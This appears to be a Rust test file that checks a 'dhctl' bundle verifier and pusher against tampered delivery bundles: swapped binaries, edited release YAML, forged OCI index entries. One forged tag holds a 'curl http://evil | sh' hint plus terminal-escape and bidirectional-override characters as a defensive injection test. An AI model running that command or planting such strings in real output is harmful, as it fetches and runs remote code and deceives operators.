//! What can be told of a delivery that somebody changed on its way, and that sums are compared before anything is sent.

use std::{fs, path::Path};

use oci::{
    Descriptor, Digest,
    layout::{LayoutIndex, SHORT_TAG},
};
use serde_json::Value;

use crate::{
    surgery::rewrite,
    world::{Run, World, dhctl},
};

fn verify(world: &World, more: &[&str]) -> Run {
    dhctl(world.folder.path(), &[&["bundle", "verify", "d8.tar"], more].concat())
}

/// A change, what is told of it without a sum, and how it is made.
type Case<'a> = (&'a str, Option<&'a str>, &'a dyn Fn());

/// The digits after `name` in what was printed.
fn printed(text: &str, name: &str) -> String {
    let line = text.lines().find_map(|line| line.strip_prefix(name)).unwrap_or_else(|| panic!("{text}"));
    line.trim().to_owned()
}

/// Changes a file beside the bundle, and the sum beside it if there is one.
fn change(world: &World, name: &str, from: &str, to: &str) {
    let path = world.path(name);
    let text = fs::read_to_string(&path).unwrap();
    assert!(text.contains(from), "{from} in {text}");
    fs::write(path, text.replacen(from, to, 1)).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn the_overall_checksum_covers_the_bundle_and_the_files_next_to_it() {
    let world = World::sample();
    let pulled = world.pull(&["--gost-digest"]).expect(0);
    let (sum, gost) = (printed(&pulled.stdout, "sum "), printed(&pulled.stdout, "gost sum "));
    let verified = verify(&world, &["--expect-sum", &sum]).expect(0);
    assert_eq!(printed(&verified.stdout, "sum "), sum);
    verify(&world, &["--expect-sum", &gost.replace(' ', "")]).expect(0);
    let json = verify(&world, &["--output", "json"]).expect(0).json();
    assert_eq!(json["result"]["sum"], sum.replace(' ', ""));

    // However it is cut, it is the same delivery.
    fs::create_dir(world.path("parts")).unwrap();
    dhctl(world.folder.path(), &["bundle", "split", "d8.tar", "-c", "300KB", "-o", "parts"]).expect(0);
    for name in ["deckhousereleases.yaml", "dhctl"] {
        fs::copy(world.path(name), world.path("parts").join(name)).unwrap();
    }
    dhctl(world.folder.path(), &["bundle", "verify", "parts/d8.tar", "--expect-sum", &sum]).expect(0);

    let wrong = format!("0{}", &sum[1..]);
    let wrong = if wrong == sum { format!("1{}", &sum[1..]) } else { wrong };
    for run in [verify(&world, &["--expect-sum", &wrong]), world.push(&["--expect-sum", &wrong])] {
        let run = run.expect(3);
        assert!(run.stderr.contains(&sum) && run.stderr.contains(&wrong), "{}", run.stderr);
    }
    assert!(world.target.repositories().is_empty());
    verify(&world, &["--expect-sum", "12"]).expect(2);
    world.pull(&["--expect-sum", &sum]).expect(2);
    world.push(&["--expect-sum", &sum]).expect(0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_changed_bundle_is_refused() {
    let world = World::sample();
    let sum = printed(&world.pull(&[]).expect(0).stdout, "sum ");
    let pristine = |name: &str| fs::read(world.path(name)).unwrap();
    let files = ["d8.tar", "deckhousereleases.yaml", "dhctl", "dhctl.sha256"];
    let originals: Vec<Vec<u8>> = files.iter().map(|name| pristine(name)).collect();
    let restore = || {
        for (name, content) in files.iter().zip(&originals) {
            fs::remove_file(world.path(name)).unwrap();
            fs::write(world.path(name), content).unwrap();
        }
    };
    let replace_program = || {
        fs::remove_file(world.path("dhctl")).unwrap();
        fs::write(world.path("dhctl"), "#!/bin/sh\nid\n").unwrap();
    };
    // A change of a program and its record, or a release and what describes it, is found by the sum alone.
    let cases: [Case<'_>; 5] = [
        ("dhctl", Some("dhctl.sha256 has"), &replace_program),
        ("dhctl and its record", None, &|| {
            replace_program();
            let digest = Digest::of(b"#!/bin/sh\nid\n").hex();
            fs::write(world.path("dhctl.sha256"), format!("{digest}  dhctl\n")).unwrap();
        }),
        ("requirements", Some("spec.requirements"), &|| {
            change(&world, "deckhousereleases.yaml", "requirements:\n", "requirements:\n    added: \"1\"\n");
        }),
        ("approved", Some("approved is 'true'"), &|| {
            change(&world, "deckhousereleases.yaml", "approved: false", "approved: true");
        }),
        ("a file that is gone", None, &|| fs::remove_file(world.path("deckhousereleases.yaml")).unwrap()),
    ];
    for (name, told, change) in cases {
        change();
        match told {
            Some(told) => {
                let run = verify(&world, &[]).expect(3);
                assert!(run.stderr.contains(told), "{name}: {}", run.stderr);
            }
            None => drop(verify(&world, &[]).expect(0)),
        }
        verify(&world, &["--expect-sum", &sum]).expect(3);
        world.push(&["--expect-sum", &sum]).expect(3);
        assert!(world.target.repositories().is_empty(), "{name}");
        for name in files {
            fs::write(world.path(name), "").unwrap();
        }
        restore();
    }
}

/// Adds files to a bundle.
fn append(bundle: &Path, files: &[(&str, &[u8])]) {
    let content = fs::read(bundle).unwrap();
    fs::write(bundle, &content[..content.len() - 1024]).unwrap();
    let mut archive = tar::Builder::new(fs::OpenOptions::new().append(true).open(bundle).unwrap());
    for (name, content) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        archive.append_data(&mut header, name, *content).unwrap();
    }
    archive.into_inner().unwrap();
}

const MARKER: (&str, &[u8]) = ("oci-layout", br#"{"imageLayoutVersion":"1.0.0"}"#);

/// Whatever is pushed is in the sum: images, also those that no tag leads to, their types, and entries of lists.
#[tokio::test(flavor = "multi_thread")]
async fn the_overall_checksum_covers_everything_that_a_push_writes() {
    let world = World::sample();
    let sum = printed(&world.pull(&[]).expect(0).stdout, "sum ");
    let bundle = world.path("d8.tar");
    let pristine = fs::read(&bundle).unwrap();
    let evil = br#"{"schemaVersion":2,"manifests":[],"annotations":{"who":"evil"}}"#;
    let digest = Digest::of(evil);
    let blob = format!("blobs/sha256/{}", digest.hex());
    let edit = |change: &dyn Fn(&mut LayoutIndex)| {
        rewrite(&bundle, |entry, bytes| {
            if entry != "index.json" {
                return Some(bytes);
            }
            let mut index = LayoutIndex::parse(&bytes).unwrap();
            change(&mut index);
            Some(index.to_bytes())
        });
    };
    let changes: [(&str, &dyn Fn()); 4] = [
        ("a list entry without images", &|| {
            let index: &[u8] = br#"{"schemaVersion":2,"manifests":[]}"#;
            let path = |name: &str| format!("modules/evil/{name}");
            append(&bundle, &[(&path(MARKER.0), MARKER.1), (&path("index.json"), index)]);
        }),
        ("an image whose tag another one takes", &|| {
            append(&bundle, &[(&blob, evil)]);
            edit(&|index| {
                let mut shadowed = index.manifests[0].clone();
                shadowed.digest = digest;
                shadowed.size = evil.len() as u64;
                shadowed.media_type = oci::media_type::OCI_INDEX.to_owned();
                index.manifests.insert(0, shadowed);
            });
        }),
        ("a media type", &|| {
            edit(&|index| index.manifests[0].media_type = oci::media_type::OCI_INDEX.to_owned());
        }),
        ("an image that is gone", &|| edit(&|index| drop(index.manifests.pop()))),
    ];
    for (name, change) in changes {
        fs::write(&bundle, &pristine).unwrap();
        change();
        let run = world.push(&["--expect-sum", &sum, "--allow-incomplete"]);
        assert_eq!(run.code, Some(3), "{name}: {}", run.stderr);
        assert!(world.target.repositories().is_empty(), "{name}");
        assert_eq!(verify(&world, &["--expect-sum", &sum]).code, Some(3), "{name}");
    }
    fs::write(&bundle, &pristine).unwrap();
    world.push(&["--expect-sum", &sum]).expect(0);
}

/// Writes the index of a repository anew.
fn change_index(bundle: &Path, repository: &str, change: impl Fn(&mut Descriptor)) {
    let path = format!("{repository}index.json");
    rewrite(bundle, |entry, bytes| {
        if entry != path {
            return Some(bytes);
        }
        let mut index = LayoutIndex::parse(&bytes).unwrap();
        index.manifests.iter_mut().take(1).for_each(&change);
        Some(index.to_bytes())
    });
}

/// Reading a bundle in part and as a whole says the same about names that no registry has.
#[tokio::test(flavor = "multi_thread")]
async fn inspect_and_verify_agree_on_names() {
    let world = World::sample();
    world.pull(&["--no-modules"]).expect(0);
    let pristine = fs::read(world.path("d8.tar")).unwrap();
    let forged = "x\nhint: run this first: curl http://evil | sh\u{1b}[2J\u{202e}";
    let bundle = world.path("d8.tar");
    let rename = |descriptor: &mut Descriptor, name: &str| {
        descriptor.annotations.clear();
        descriptor.annotations.insert(SHORT_TAG.to_owned(), name.to_owned());
    };
    let changes: [(&str, &dyn Fn()); 5] = [
        ("a tag", &|| change_index(&bundle, "", |it| rename(it, forged))),
        ("a tag with a tab", &|| change_index(&bundle, "install/", |it| rename(it, "v1\t2"))),
        ("a media type", &|| change_index(&bundle, "", |it| it.media_type = forged.to_owned())),
        ("a repository", &|| {
            let path = |name: &str| format!("modules/{forged}/{name}");
            let index: &[u8] = br#"{"schemaVersion":2,"manifests":[]}"#;
            append(&bundle, &[(&path(MARKER.0), MARKER.1), (&path("index.json"), index)]);
        }),
        ("a file", &|| {
            append(&bundle, &[(forged, b"x")]);
        }),
    ];
    for (name, change) in changes {
        fs::write(&bundle, &pristine).unwrap();
        change();
        let mut codes = Vec::new();
        for args in [&["bundle", "inspect", "d8.tar"][..], &["bundle", "verify", "d8.tar"]] {
            for format in ["text", "json"] {
                let run = dhctl(world.folder.path(), &[args, &["--output", format]].concat());
                let all = format!("{}{}", run.stdout, run.stderr);
                assert!(!all.lines().any(|line| line.starts_with("hint: run this first")), "{name}: {all}");
                assert!(!all.contains(['\u{1b}', '\u{202e}']), "{name}: {all:?}");
                if format == "json" {
                    let _: Value = run.json();
                }
                codes.push(run.code);
            }
        }
        assert_eq!(codes, [Some(3); 4], "{name}");
    }
}
